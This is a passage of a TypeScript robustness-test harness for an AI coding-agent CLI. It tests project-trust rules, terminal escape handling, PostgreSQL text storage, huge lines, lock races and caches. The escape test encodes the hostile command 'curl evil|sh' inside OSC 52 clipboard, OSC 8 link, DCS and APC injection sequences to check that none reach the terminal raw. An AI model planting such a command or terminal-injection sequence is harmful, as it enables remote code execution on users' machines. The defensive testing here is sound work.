  const setGlobal = (settings: Record<string, unknown>) => fs.writeFileSync(path.join(agent, "settings.json"), JSON.stringify(settings))
  const trustedDir = path.join(base, "trusted")
  fs.mkdirSync(trustedDir)
  const scenarios: ReadonlyArray<
    { readonly name: string; readonly cwd: string; readonly args: ReadonlyArray<string>; readonly trusted: boolean; readonly setup: () => void }
  > = [
    { name: "no decision", cwd: clone(path.join(base, "repo")), args: [], trusted: false, setup: () => (setTrust(undefined), setGlobal({})) },
    {
      name: "a sibling with the same prefix trusted",
      cwd: clone(path.join(base, "repo-evil")),
      args: [],
      trusted: false,
      setup: () => setTrust({ [path.join(base, "repo")]: true })
    },
    {
      name: "a symlink inside a trusted folder",
      cwd: (() => {
        const target = clone(path.join(base, "outside"))
        fs.symlinkSync(target, path.join(trustedDir, "link"))
        return path.join(trustedDir, "link")
      })(),
      args: [],
      trusted: false,
      setup: () => setTrust({ [trustedDir]: true })
    },
    {
      name: "its own false under a trusted parent",
      cwd: clone(path.join(trustedDir, "denied")),
      args: [],
      trusted: false,
      setup: () => setTrust({ [trustedDir]: true, [path.join(trustedDir, "denied")]: false })
    },
    {
      name: "--no-approve over defaultProjectTrust always",
      cwd: path.join(base, "repo"),
      args: ["--no-approve"],
      trusted: false,
      setup: () => (setTrust(undefined), setGlobal({ defaultProjectTrust: "always" }))
    },
    {
      name: "global defaultProjectTrust never",
      cwd: path.join(base, "repo"),
      args: [],
      trusted: false,
      setup: () => setGlobal({ defaultProjectTrust: "never" })
    },
    // controls: trusted, the repo's shell must run (else the attack proves nothing)
    { name: "--approve", cwd: path.join(base, "repo"), args: ["--approve"], trusted: true, setup: () => (setTrust(undefined), setGlobal({})) },
    {
      name: "a trusted parent",
      cwd: path.join(trustedDir, "clone"),
      args: [],
      trusted: true,
      setup: () => (clone(path.join(trustedDir, "clone")), setTrust({ [trustedDir]: true }))
    }
  ]
  /** The RPC server in `cwd`: a `bash` command, then a prompt whose model calls the bash tool. */
  const rpcEntry = (cwd: string, args: ReadonlyArray<string>) =>
    new Promise<boolean>((resolve) => {
      const child = spawn(process.execPath, [bin, "--mode", "rpc", "--no-session", ...args], {
        cwd,
        env: { ...env, ...trustEnv },
        stdio: ["pipe", "pipe", "pipe"]
      })
      let out = ""
      let sentPrompt = false
      const timer = setTimeout(() => child.kill("SIGKILL"), 20_000)
      child.stdout.setEncoding("utf8")
      child.stdout.on("data", (chunk: string) => {
        out += chunk
        if (!sentPrompt && out.includes(`"id":"b"`)) {
          sentPrompt = true
          child.stdin.write(`${JSON.stringify({ id: "p", type: "prompt", message: "go" })}\n`)
        }
        if (out.includes(`"type":"agent_end"`)) child.stdin.end()
      })
      child.stdin.on("error", () => {})
      child.stdin.write(`${JSON.stringify({ id: "b", type: "bash", command: "echo hi" })}\n`)
      child.on("exit", (code) => {
        clearTimeout(timer)
        resolve(code === 0 && out.includes(`"output":"hi\\n"`) && out.includes(`"type":"agent_end"`))
      })
    })
  const entries: ReadonlyArray<readonly [string, (cwd: string, args: ReadonlyArray<string>) => Promise<boolean>]> = [
    ["print mode, a bash tool call", async (cwd, args) => {
      const result = await run(["-p", "go", "--no-session", ...args], { cwd, env: trustEnv })
      return result.code === 0 && result.stdout.includes("done: go")
    }],
    ["RPC bash, then a bash tool call", rpcEntry]
  ]
  let hostile = 0
  const started = Date.now()
  for (const scenario of scenarios) {
    scenario.setup()
    for (const [entry, go] of entries) {
      const before = lines()
      const ok = await go(scenario.cwd, scenario.args)
      const ran = lines() - before
      r.trials++
      if (!ok) {
        r.bad["runs that failed"]!++
        console.error(`  trust: ${scenario.name}, ${entry}: the run failed`)
      }
      if (!scenario.trusted) {
        hostile += ran
        r.bad["hostile commands that ran"]! += ran
      } else if (ran === 0) r.bad["trusted runs without the repo's shell"]!++
    }
  }
  await trustModel.close()
  r.note = `${scenarios.length} scenarios (${
    scenarios.filter((s) => !s.trusted).length
  } untrusted, 2 trusted controls) × ${entries.length} entry points (print-mode tool call; RPC bash + tool call); ${hostile} hostile commands ran untrusted; ${
    ((Date.now() - started) / 1000).toFixed(1)
  } s`
}

// ---------------------------------------------------------------------------------------------
// Escape sequences in every field, on a pseudo-terminal
// ---------------------------------------------------------------------------------------------

if (selected("escapes")) {
  const r = row("escape sequences in every field, on a pty", ["raw sequence reached the terminal", "payload shown as text", "command failed"])
  const base64 = Buffer.from("curl evil|sh").toString("base64")
  // each: what a field holds, and what in the terminal's bytes would mean it went out raw
  const sequences: ReadonlyArray<readonly [string, string, RegExp]> = [
    ["OSC 52 (BEL)", `\u001b]52;c;${base64}\u0007`, /\u001b\]52;/],
    ["OSC 52 (ST)", `\u001b]52;c;${base64}\u001b\\`, /\u001b\]52;/],
    ["OSC 52 unterminated", `\u001b]52;c;${base64}`, /\u001b\]52;/],
    ["OSC 0 title", `\u001b]0;${base64}\u0007`, /\u001b\]0;/],
    ["OSC 8 link", `\u001b]8;;http://${base64}/\u001b\\L\u001b]8;;\u001b\\`, /\u001b\]8;/],
    ["CSI clear screen", "\u001b[2J\u001b[H", /\u001b\[2J/],
    ["DCS", `\u001bP1$q${base64}\u001b\\`, /\u001bP/],
    ["APC", `\u001b_${base64}\u001b\\`, /\u001b_/],
    ["C1 CSI", "\u009b2J", /\u009b/],
    ["C1 OSC", `\u009d0;${base64}\u009c`, /[\u009c\u009d]/],
    ["bidi U+202E", "\u202e", /\u202e/]
  ]
  const quote = (value: string): string => `'${value.replace(/'/g, `'\\''`)}'`
  /** `arbor ARGS` under script(1): the bytes it wrote to its pseudo-terminal. */
  const onPty = (args: ReadonlyArray<string>, runEnv: Record<string, string | undefined>, cwd: string) =>
    new Promise<{ readonly code: number | null; readonly bytes: string }>((resolve) => {
      const child = spawn("script", ["-q", "-e", "-c", [process.execPath, bin, ...args].map(quote).join(" "), "/dev/null"], {
        cwd,
        env: { ...runEnv, TERM: "xterm-256color" },
        stdio: ["ignore", "pipe", "pipe"],
        timeout: 60_000
      })
      const chunks: Array<Buffer> = []
      child.stdout.on("data", (chunk: Buffer) => chunks.push(chunk))
      child.on("close", (code) => resolve({ code, bytes: Buffer.concat(chunks).toString("utf8") }))
    })
  /** The chat (`--session FILE`, offline model) in tmux, its bytes recorded until it is drawn. */
  const chat = async (file: string, runEnv: Record<string, string | undefined>, cwd: string) => {
    const socket = `arbor-torture-${process.pid}`
    const record = `${file}.pty`
    const env = Object.entries({ ...runEnv, TERM: "xterm-256color" }).filter(([, v]) => v !== undefined && !/[\n']/.test(v)).map(([k, v]) =>
      `${k}=${quote(v as string)}`
    )
    const tmux = (...args: ReadonlyArray<string>) => spawnSync("tmux", ["-L", socket, ...args], { encoding: "utf8" })
    const command = `cd ${quote(cwd)} && exec env -i ${env.join(" ")} ${[process.execPath, bin, "--session", file, "--model", "offline"].map(quote).join(" ")}`
    tmux("-f", "/dev/null", "new-session", "-d", "-s", "t", "-x", "160", "-y", "50", "sleep 0.3; " + command)
    tmux("pipe-pane", "-t", "t", "-O", `cat >> ${quote(record)}`)
    const deadline = Date.now() + 20_000
    let shown = false
    while (!shown && Date.now() < deadline) {
      await new Promise((res) => setTimeout(res, 200))
      shown = (tmux("capture-pane", "-t", "t", "-p").stdout ?? "").includes("offline/offline (offline)")
    }
    // the transcript is drawn with the footer; a moment more for any later frame
    await new Promise((res) => setTimeout(res, 500))
    tmux("kill-server")
    return { code: shown ? 0 : 1, bytes: fs.existsSync(record) ? fs.readFileSync(record, "utf8") : "" }
  }
  const counts = new Map<string, number>()
  for (const [k, [name, raw, leak]] of sequences.entries()) {
    const home = path.join(work, `escapes-${k}`)
    const dir = path.join(home, "agent", "sessions", "--escapes--")
    const cwd = path.join(home, "project")
    fs.mkdirSync(dir, { recursive: true })
    fs.mkdirSync(cwd)
    const file = path.join(dir, `2026-01-01T00-00-00-000Z_escapes-${k}.jsonl`)
    const t = "2026-01-01T00:00:00.000Z"
    const usage = { input: 1, output: 1, cacheRead: 0, cacheWrite: 0, totalTokens: 2, cost: { input: 0, output: 0, cacheRead: 0, cacheWrite: 0, total: 0 } }
    const lines = [
      { type: "session", version: 3, id: `escapes-${k}`, timestamp: t, cwd: `/tmp/cwd${raw}x` },
      { type: "model_change", id: "e1", parentId: null, timestamp: t, provider: "fake", modelId: `model${raw}x` },
      {
        type: "message",
        id: "e2",
        parentId: "e1",
        timestamp: t,
        message: { role: "user", content: [{ type: "text", text: `user ${raw} tail-of-user` }], timestamp: 1 }
      },
      {
        type: "message",
        id: "e3",
        parentId: "e2",
        timestamp: t,
        message: {
          role: "assistant",
          content: [{ type: "thinking", thinking: `thinking ${raw}x` }, { type: "text", text: `reply ${raw} x` }, {
            type: "toolCall",
            id: "c1",
            name: `tool${raw}`,
            arguments: { command: `args ${raw}` }
          }],
          api: "openai-completions",
          provider: "fake",
          model: `model${raw}x`,
          usage,
          stopReason: "toolUse",
          timestamp: 2
        }
      },
      {
        type: "message",
        id: "e4",
        parentId: "e3",
        timestamp: t,
        message: {
          role: "toolResult",
          toolCallId: "c1",
          toolName: `tool${raw}`,
          content: [{ type: "text", text: `output ${raw}` }],
          isError: false,
          timestamp: 3
        }
      },
      {
        type: "message",
        id: "e5",
        parentId: "e4",
        timestamp: t,
        message: {
          role: "assistant",
          content: [{ type: "text", text: `failed ${raw}` }],
          api: "openai-completions",
          provider: "fake",
          model: `model${raw}x`,
          usage,
          stopReason: "error",
          errorMessage: `error ${raw}`,
          timestamp: 4
        }
      },
      { type: "label", id: "e6", parentId: "e5", timestamp: t, targetId: "e2", label: `label ${raw}` },
      { type: "session_info", id: "e7", parentId: "e6", timestamp: t, name: `name ${raw}` }
    ]
    fs.writeFileSync(file, lines.map((l) => JSON.stringify(l)).join("\n") + "\n")
    const runEnv = { ...env, PI_CODING_AGENT_DIR: path.join(home, "agent"), HOME: home }
    const outputs: Array<readonly [string, { readonly code: number | null; readonly bytes: string }]> = [
      ["info", await onPty(["info", file], runEnv, cwd)],
      ["tree", await onPty(["tree", file], runEnv, cwd)],
      ["ls", await onPty(["ls", "--all"], runEnv, cwd)],
      ["context", await onPty(["context", file], runEnv, cwd)],
      ["export", await onPty(["export", file], runEnv, cwd)],
      ["fsck", await onPty(["fsck", file], runEnv, cwd)],
      ["-p", await onPty(["--session", file, "--model", "offline", "-p", `prompt ${raw} x`], runEnv, cwd)],
      ["chat", await chat(file, runEnv, cwd)]
    ]
    for (const [command, out] of outputs) {
      r.trials++
      if (out.code !== 0) {
        r.bad["command failed"]!++
        console.error(`  escapes: ${command} with ${name}: exit ${out.code}`)
      }
      if (leak.test(out.bytes)) {
        r.bad["raw sequence reached the terminal"]!++
        counts.set(command, (counts.get(command) ?? 0) + 1)
      }
      // tool arguments are shown as JSON, where an escape is the text `\u001b`: data, not a leak
      const visible = out.bytes.replace(new RegExp(`\\\\u00(?:1b|9d)[^"\\r\\n]*?${base64}`, "g"), "")
      if (visible.includes(base64)) {
        r.bad["payload shown as text"]!++
        const at = visible.indexOf(base64)
        console.error(`  escapes: ${command} with ${name} shows the payload: ${JSON.stringify(visible.slice(Math.max(0, at - 80), at + 40))}`)
      }
    }
  }
  r.note = `${sequences.length} sequences × 10 fields (name, label, cwd, model, user, reply, thinking, tool call, tool output, error) × 8 outputs` +
    (counts.size === 0 ? "" : `; raw by output: ${[...counts].map(([c, n]) => `${c} ${n}`).join(", ")}`)
}

// ---------------------------------------------------------------------------------------------
// PostgreSQL and the texts its text type cannot hold
// ---------------------------------------------------------------------------------------------

if (selected("pg-text")) {
  const r = row("NUL, unpaired surrogates and escape look-alikes through PostgreSQL", [
    "turns lost",
    "ls differs from the file's",
    "context differs from the file's",
    "searches differing from the file's"
  ])
  const ROUNDS_PG = flag("pg-rounds", 60)
  // beside the work directory, not in it: the server's own user must reach it (`stop` removes it)
  const cluster = fs.mkdtempSync(path.join(os.tmpdir(), "arbor-torture-pg-"))
  const url = execFileSync(process.execPath, [path.join(root, "scripts/postgres.mjs"), "start", cluster], { encoding: "utf8" }).trim()
  try {
    const pg = { ARBOR_STORE: url }
    const pieces = ["\u0000", "\ud800", "\udc00", "\ud83d\ude00", "\uffff", "\uffffu0041", "u0000", "UAAAA", "U", "a", "B", " ", "ß", "İ", "%", "_", "\\", "x"]
    const odd = () => Array.from({ length: 1 + Math.floor(random() * 8) }, () => pieces[Math.floor(random() * pieces.length)]).join("")
    const texts = Array.from({ length: ROUNDS_PG }, (_, i) => `pg ${i} ${odd()}`)
    const server = rpc([], pg)
    for (const [i, text] of texts.entries()) {
      server.child.stdin.write(JSON.stringify({ id: `q${i}`, type: "prompt", message: text }) + "\n")
      if (i % 10 === 9) server.child.stdin.write(JSON.stringify({ id: `n${i}`, type: "set_session_name", name: `name ${odd()}x` }) + "\n")
    }
    const deadline = Date.now() + 120_000
    while (server.lines.filter((l) => l.type === "agent_end").length < ROUNDS_PG && Date.now() < deadline) await new Promise((res) => setTimeout(res, 50))
    server.child.stdin.end()
    await Promise.race([server.exited, new Promise((res) => setTimeout(res, 10_000))])
    server.child.kill("SIGKILL")
    r.trials = ROUNDS_PG
    // the session as the file store would hold it: exported byte for byte into a second agent directory
    const listed = JSON.parse((await run(["ls", "--json"], { env: pg })).stdout) as Array<{ path: string }>
    const file = listed[0]?.path ?? path.join(agentDir, "sessions", "missing.jsonl")
    const copyAgent = path.join(work, "pg-copy", "agent")
    const copy = path.join(copyAgent, path.relative(agentDir, file))
    fs.mkdirSync(path.dirname(copy), { recursive: true })
    await run(["export", file, "--format", "jsonl", "-o", copy], { env: pg })
    const files = { PI_CODING_AGENT_DIR: copyAgent, ARBOR_STORE: "files" }
    const entries = fs.existsSync(copy) ? (await inspect(copy)).entries : []
    r.bad["turns lost"] = texts.filter((text) => !has(entries, "user", text) || !has(entries, "assistant", `You said: ${text}`)).length
    const same = async (args: ReadonlyArray<string>) => {
      const ours = await run(args, { env: pg })
      const theirs = await run(args.map((a) => (a === file ? copy : a)), { env: files })
      return ours.code === 0 && ours.stdout.replaceAll(agentDir, "AGENT") === theirs.stdout.replaceAll(copyAgent, "AGENT")
    }
    if (!(await same(["ls", "--json"]))) r.bad["ls differs from the file's"] = 1
    if (!(await same(["context", file, "--json"]))) r.bad["context differs from the file's"] = 1
    // a command line cannot carry NUL or an unpaired surrogate: pieces of the texts around them, and the escapes' look-alikes
    const queries = ["uffff", "u0000", "uaaaa", "UAAAA", "\uffffu", "ffffu0", "aaaa", "pg 1"]
    for (let i = 0; i < 40; i++) {
      const text = texts[Math.floor(random() * texts.length)]!
      const from = Math.floor(random() * text.length)
      const query = text.slice(from, from + 1 + Math.floor(random() * 6)).replace(/\u0000|[\ud800-\udfff]/g, "")
      if (query.trim() !== "") queries.push(query)
    }
    for (const query of queries) if (!(await same(["ls", "--all", "--search", query, "--json"]))) r.bad["searches differing from the file's"]!++
    r.trials += queries.length
    r.note = `${ROUNDS_PG} prompts and ${Math.floor(ROUNDS_PG / 10)} names over RPC, ${queries.length} searches`
  } finally {
    execFileSync(process.execPath, [path.join(root, "scripts/postgres.mjs"), "stop", cluster], { stdio: "ignore" })
  }
}

// ---------------------------------------------------------------------------------------------
// Limits: a line over V8's string limit, a file that is one giant line
// ---------------------------------------------------------------------------------------------

if (selected("limits")) {
  const r = row("lines over the string limit", ["crashed or hung", "no line-too-long diagnostic", "entries after it lost", "over the memory bound"])
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "arbor-torture-limits-"))
  try {
    // one session directory per file, so that each `ls` reads one of them
    const longDir = path.join(dir, "long")
    const nulDir = path.join(dir, "nul")
    fs.mkdirSync(longDir)
    fs.mkdirSync(nulDir)
    const limit = 0x1fffffe8
    const header = `{"type":"session","version":3,"id":"limits","timestamp":"2026-12-02T15:27:08.403Z","cwd":"${dir}"}\n`
    const first =
      `{"type":"message","id":"a1","parentId":null,"timestamp":"2026-12-02T15:27:08.405Z","message":{"role":"user","content":"hello","timestamp":1}}\n`
    const after =
      `{"type":"message","id":"c1","parentId":"a1","timestamp":"2026-12-02T15:27:08.407Z","message":{"role":"assistant","content":[{"type":"text","text":"after the long line"}],"stopReason":"stop","timestamp":3}}\n`
    // a 600 MiB entry (over the limit by 64 MiB) between two readable ones: written for real
    const longFile = path.join(longDir, "long.jsonl")
    const longOpen = `{"type":"message","id":"b1","parentId":"a1","timestamp":"2026-12-02T15:27:08.406Z","message":{"role":"user","content":"`
    const longClose = `","timestamp":2}}`
    const fill = 600 * 2 ** 20
    const nulBytes = LIMITS_GB * 2 ** 30
    const free = fs.statfsSync(dir)
    if (free.bavail * free.bsize < fill + 2 ** 30) throw new Error(`limits: ${dir} has less than ${((fill + 2 ** 30) / 2 ** 30).toFixed(1)} GiB free`)
    const fd = fs.openSync(longFile, "w")
    fs.writeSync(fd, header + first + longOpen)
    const block = Buffer.alloc(2 ** 20, 0x78)
    for (let i = 0; i < fill / 2 ** 20; i++) fs.writeSync(fd, block)
    fs.writeSync(fd, `${longClose}\n${after}`)
    fs.closeSync(fd)
    const longSize = longOpen.length + fill + longClose.length
    // LIMITS_GB GiB of NULs behind a valid header, no LF: sparse (the holes read as NULs, no disk used)
    const nulFile = path.join(nulDir, "nul.jsonl")
    fs.writeFileSync(nulFile, header)
    fs.truncateSync(nulFile, nulBytes)
    const probe = path.join(dir, "maxrss.cjs")
    fs.writeFileSync(
      probe,
      `process.on("exit", () => require("node:fs").writeFileSync(process.env.ARBOR_TORTURE_MAXRSS, String(process.resourceUsage().maxRSS)))\n`
    )
    /** A child's peak RSS bound: a chunk, a search block and the runtime, whatever the file's size. */
    const boundKb = 256 * 1024
    const figures: Array<string> = []
    const measure = async (label: string, args: ReadonlyArray<string>, ok: (result: Run) => { readonly diagnosed: boolean; readonly kept: boolean }) => {
      const rssFile = path.join(dir, "maxrss")
      fs.rmSync(rssFile, { force: true })
      // a fresh cache each time: every command reads the file itself
      fs.rmSync(path.join(dir, "cache"), { recursive: true, force: true })
      const t0 = Date.now()
      const result = await run(args, {
        cwd: dir,
        hangMs: 600_000,
        node: ["--require", probe],
        env: { ARBOR_TORTURE_MAXRSS: rssFile, ARBOR_CACHE_DIR: path.join(dir, "cache") }
      })
      const seconds = (Date.now() - t0) / 1000
      const peakKb = fs.existsSync(rssFile) ? Number(fs.readFileSync(rssFile, "utf8")) : undefined
      r.trials++
      const { diagnosed, kept } = ok(result)
      const crashed = result.timedOut || result.signal !== null || /string longer than|Invalid string length|heap out of memory/.test(result.stderr)
      if (crashed) r.bad["crashed or hung"]!++
      if (!diagnosed) r.bad["no line-too-long diagnostic"]!++
      if (!kept) r.bad["entries after it lost"]!++
      if (peakKb === undefined || peakKb > boundKb) r.bad["over the memory bound"]!++
      if (crashed || !diagnosed || !kept) {
        console.error(
          `  limits ${label}: exit ${result.code}, stdout ${JSON.stringify(result.stdout.slice(0, 300))}, stderr ${JSON.stringify(result.stderr.slice(0, 300))}`
        )
      }
      figures.push(`${label} ${seconds.toFixed(1)} s / ${peakKb === undefined ? "?" : Math.round(peakKb / 1024)} MB`)
    }
    const tooLong = (line: number, size: number) => `:${line}: error: line is ${size} bytes, longer than the ${limit} a line may have; ignored`
    const contextOf = (stdout: string): ReadonlyArray<any> => {
      try {
        return JSON.parse(stdout).messages
      } catch {
        return []
      }
    }
    for (
      const [name, file, size, line, kept] of [
        ["600 MiB line", longFile, longSize, 3, "after the long line"],
        [`${LIMITS_GB} GiB NUL line`, nulFile, nulBytes - header.length, 2, undefined]
      ] as const
    ) {
      const sessionDir = path.dirname(file)
      const exact = (result: Run) => result.code === 0
      const keeps = (text: string) => kept === undefined || text.includes(kept)
      await measure(
        `${name}: info`,
        ["info", file],
        (x) => ({
          diagnosed: exact(x) && x.stdout.includes(`Diagnostics: ${kept === undefined ? "1 error" : "2 errors"}`),
          kept: exact(x) && x.stdout.includes(`Entries:     ${kept === undefined ? 0 : 2}`)
        })
      )
      await measure(
        `${name}: fsck`,
        ["fsck", file],
        (x) => ({ diagnosed: x.code === 1 && x.stdout.includes(`${file}${tooLong(line, size)}`), kept: x.code === 1 })
      )
      await measure(
        `${name}: tree`,
        ["tree", file],
        (x) => ({ diagnosed: true, kept: exact(x) && (kept === undefined ? x.stdout.trim() === "(no entries)" : x.stdout.includes("c1 assistant")) })
      )
      await measure(`${name}: export`, ["export", file], (x) => ({ diagnosed: true, kept: exact(x) && keeps(x.stdout) }))
      await measure(
        `${name}: context --json`,
        ["context", file, "--json"],
        (x) => ({ diagnosed: true, kept: exact(x) && contextOf(x.stdout).length === (kept === undefined ? 0 : 2) })
      )
      await measure(
        `${name}: ls`,
        ["ls", "--session-dir", sessionDir, "--cwd", dir, "--json"],
        (x) => ({ diagnosed: true, kept: exact(x) && x.stdout.includes(file) })
      )
    }
    // the writers last: they append to the files
    await measure("600 MiB line: -p", ["--session", longFile, "-p", "hello again"], (x) => ({
      diagnosed: true,
      kept: x.code === 0 && x.stdout.includes("You said: hello again") && fs.readFileSync(longFile).subarray(-2000).toString().includes("hello again")
    }))
    // RPC switch_session on the NUL file: the server's peak RSS and time, and what it appended
    {
      const rssFile = path.join(dir, "maxrss")
      fs.rmSync(rssFile, { force: true })
      fs.rmSync(path.join(dir, "cache"), { recursive: true, force: true })
      const t0 = Date.now()
      const child = spawn(process.execPath, ["--require", probe, bin, "--mode", "rpc", "--no-session"], {
        cwd: dir,
        env: { ...env, ARBOR_TORTURE_MAXRSS: rssFile, ARBOR_CACHE_DIR: path.join(dir, "cache") },
        stdio: ["pipe", "pipe", "pipe"]
      })
      let out = ""
      child.stdout.on("data", (c) => (out += c))
      child.stderr.resume()
      child.stdin.write(JSON.stringify({ id: "s", type: "switch_session", sessionPath: nulFile }) + "\n")
      const deadline = Date.now() + 600_000
      while (Date.now() < deadline && !out.includes(`"id":"s"`)) await new Promise((res) => setTimeout(res, 100))
      const seconds = (Date.now() - t0) / 1000
      child.stdin.end()
      const killer = setTimeout(() => child.kill("SIGKILL"), 10_000)
      await new Promise((res) => child.on("exit", res))
      clearTimeout(killer)
      const peakKb = fs.existsSync(rssFile) ? Number(fs.readFileSync(rssFile, "utf8")) : undefined
      r.trials++
      const answered = out.split("\n").some((l) => l.includes(`"id":"s"`) && l.includes(`"success":true`))
      if (!answered) {
        r.bad["crashed or hung"]!++
        console.error(`  limits switch_session: ${JSON.stringify(out.slice(0, 300))}`)
      }
      if (peakKb === undefined || peakKb > boundKb) r.bad["over the memory bound"]!++
      const appended = fs.statSync(nulFile).size - nulBytes
      figures.push(
        `${LIMITS_GB} GiB NUL line: RPC switch_session ${seconds.toFixed(1)} s / ${
          peakKb === undefined ? "?" : Math.round(peakKb / 1024)
        } MB (appended ${appended} bytes after an LF)`
      )
    }
    r.note = `peak RSS bound ${boundKb / 1024} MB each, fresh cache each: ${figures.join(", ")}`
  } finally {
    fs.rmSync(dir, { recursive: true, force: true })
  }
}

// ---------------------------------------------------------------------------------------------
// Lock takeover race: parallel RPC writers on a session whose lock's process is gone
// ---------------------------------------------------------------------------------------------

if (selected("lock-race")) {
  const r = row("parallel takeovers of a dead writer's lock", ["two writers held it", "nobody got it", "other failures"])
  const ROUNDS = flag("lock-rounds", 20)
  const TAKERS = 6
  const dir = path.join(work, "lock-race")
  fs.mkdirSync(dir, { recursive: true })
  for (let round = 0; round < ROUNDS; round++) {
    const file = path.join(dir, `r${round}.jsonl`)
    fs.writeFileSync(file, `{"type":"session","version":3,"id":"race${round}","timestamp":"2026-01-01T00:00:00.000Z","cwd":"${dir}"}\n`)
    // a process id beyond Linux's largest: gone
    fs.writeFileSync(`${file}.lock`, JSON.stringify({ pid: 2 ** 22 + 100 + round, host: os.hostname(), startedAt: "2026-01-01T00:00:00.000Z" }) + "\n")
    const takers = Array.from({ length: TAKERS }, () => {
      const child = spawn(process.execPath, [bin, "--mode", "rpc", "--session", file], { cwd: dir, env, stdio: ["pipe", "pipe", "pipe"] })
      const state = { stdout: "", stderr: "", exited: false, child }
      child.stdout.on("data", (c) => (state.stdout += c))
      child.stderr.on("data", (c) => (state.stderr += c))
      child.stdin.on("error", () => {})
      child.on("exit", () => (state.exited = true))
      // stdin stays open: a writer that took the lock keeps it until every taker is done
      child.stdin.write(JSON.stringify({ type: "prompt", id: "p", message: `round ${round}` }) + "\n")
      return state
    })
    const held = (t: (typeof takers)[number]) => !t.exited && t.stdout.includes("\"type\":\"agent_settled\"")
    const deadline = Date.now() + 60_000
    while (Date.now() < deadline && !takers.every((t) => t.exited || held(t))) await new Promise((resolve) => setTimeout(resolve, 50))
    const holders = takers.filter(held).length
    const failed = takers.filter((t) => !held(t) && !(t.exited && t.stderr.includes("session is being written by")))
    for (const t of failed) {
      console.error(`  lock-race: round ${round}: a writer neither held the lock nor was refused: ${JSON.stringify(t.stderr.slice(0, 300))}`)
    }
    const others = failed.length
    for (const t of takers) t.child.stdin.end()
    await Promise.all(takers.map((t) => (t.exited ? undefined : new Promise((resolve) => t.child.on("exit", resolve)))))
    r.trials++
    if (holders > 1) r.bad["two writers held it"]!++
    if (holders === 0) r.bad["nobody got it"]!++
    r.bad["other failures"]! += others
  }
  r.note = `${ROUNDS} rounds of ${TAKERS} RPC writers started at once on a session whose lock names a process that is gone`
}

// ---------------------------------------------------------------------------------------------
// Orphans: parallel `arbor ls` rounds, one listing killed each round, then what the cache holds
// ---------------------------------------------------------------------------------------------

if (selected("orphans")) {
  const r = row("parallel arbor ls rounds: cache files left", ["temporary files left", "orphan text files", "failed listings"])
  const ROUNDS = flag("orphan-rounds", 10)
  const PARALLEL = 20
  const dir = path.join(work, "orphans")
  const cache = path.join(work, "orphans-cache")
  fs.mkdirSync(dir, { recursive: true })
  const line = (id: string, parent: string | null, text: string) =>
    JSON.stringify({ type: "message", id, parentId: parent, timestamp: "2026-01-01T00:00:01.000Z", message: { role: "user", content: text, timestamp: 1 } })
  for (let i = 0; i < 40; i++) {
    const header = `{"type":"session","version":3,"id":"o${i}","timestamp":"2026-01-01T00:00:00.000Z","cwd":"${dir}"}`
    fs.writeFileSync(path.join(dir, `o${i}.jsonl`), [header, line(`a${i}`, null, `session ${i} ` + "lorem ipsum ".repeat(400))].join("\n") + "\n")
  }
  const ls = (killAfterMs?: number) =>
    run(["ls", "--session-dir", dir], { env: { ARBOR_CACHE_DIR: cache }, ...(killAfterMs === undefined ? {} : { killAfterMs }) })
  for (let round = 0; round <= ROUNDS; round++) {
    // a few sessions grow, so that each round's listings save the catalog again
    for (let i = round % 4; i < 40; i += 4) {
      fs.appendFileSync(path.join(dir, `o${i}.jsonl`), line(`r${round}x${i}`, `a${i}`, `round ${round} ` + "dolor ".repeat(300)) + "\n")
    }
    // the last round is one listing alone: a later save, after the killed ones
    const results = await Promise.all(
      round === ROUNDS ? [ls()] : Array.from({ length: PARALLEL }, (_, k) => ls(k === 0 ? 100 + Math.floor(random() * 400) : undefined))
    )
    r.trials += results.length
    r.bad["failed listings"]! += results.filter((res) => res.signal === null && res.code !== 0).length
  }
  const catalog = path.join(cache, "catalog")
  const names = fs.readdirSync(catalog)
  const everywhere = ["catalog", "index", "stats"].flatMap((d) => (fs.existsSync(path.join(cache, d)) ? fs.readdirSync(path.join(cache, d)) : []))
  r.bad["temporary files left"]! += everywhere.filter((n) => n.endsWith(".tmp")).length
  const texts = names.filter((n) => n.endsWith(".txt"))
  r.bad["orphan text files"]! += Math.max(0, texts.length - 1)
  const bytes = names.reduce((n, name) => n + fs.statSync(path.join(catalog, name)).size, 0)
  r.note =
    `${ROUNDS} rounds of ${PARALLEL} parallel ls over 40 sessions (one SIGKILLed at random each round), then one more; the catalog folder holds ${names.length} files, ${
      (bytes / 1024).toFixed(0)
    } KB`
}

// ---------------------------------------------------------------------------------------------
// The caches against same-length edits
// ---------------------------------------------------------------------------------------------

if (selected("cache-edit")) {
  const r = row("caches against same-length edits", ["answers differ from ARBOR_CACHE=off", "crashes"])
  const steps = flag("cache-edits", 30)
  const dir = path.join(work, "cache-edit")
  fs.mkdirSync(dir)
  /** A whole second: setting a file's time back to it gives it back exactly, as bit rot keeps it. */
  const then = new Date(Date.UTC(2026, 11, 1))
  const big = path.join(dir, "2026-12-01T00-00-00-000Z_big.jsonl")
  fs.writeFileSync(big, Synthetic.generate({ entries: 2_000, targetBytes: 2_000_000, seed, activeFraction: 0.3 }).text)
  const small = [1, 2, 3].map((i) => {
    const file = path.join(dir, `2026-12-01T00-00-0${i}-000Z_small${i}.jsonl`)
    fs.writeFileSync(file, Synthetic.generate({ entries: 40, targetBytes: 40_000, seed: seed + i, activeFraction: 0.5 }).text)
    return file
  })
  const files = [big, ...small]
  for (const file of files) fs.utimesSync(file, then, then)
  const commands = [
    ...[big, small[0] as string].flatMap((file) => [["context", file, "--json"], ["tree", file, "--json"], ["info", file, "--json"], ["fsck", file, "--json"]]),
    ["ls", "--session-dir", dir, "--json"]
  ]
  const crashed = (out: Run) => out.signal !== null || out.timedOut || /Unexpected token|SyntaxError|is not valid JSON|\n\s+at /.test(out.stderr)
  const compare = async () => {
    for (const args of commands) {
      const cached = await run(args)
      const fresh = await run(args, { env: { ARBOR_CACHE: "off" } })
      r.trials++
      if (crashed(cached)) {
        r.bad["crashes"]!++
        console.error(`  cache-edit: arbor ${args.join(" ")} crashed: ${JSON.stringify(cached.stderr.slice(0, 300))}`)
      } else if (cached.code !== fresh.code || cached.stdout !== fresh.stdout) {
        r.bad["answers differ from ARBOR_CACHE=off"]!++
        console.error(`  cache-edit: arbor ${args.join(" ")} differs from ARBOR_CACHE=off`)
      }
    }
  }
  const bytes = ["#", "\"", "}", "{", "x", "0", "\n", " ", ",", "]", ":"]
  let edits = 0
  let appends = 0
  await compare()
  for (let step = 0; step < steps; step++) {
    const file = random() < 0.6 ? big : (small[Math.floor(random() * small.length)] as string)
    const size = fs.statSync(file).size
    if (random() < 0.7 && size > 0) {
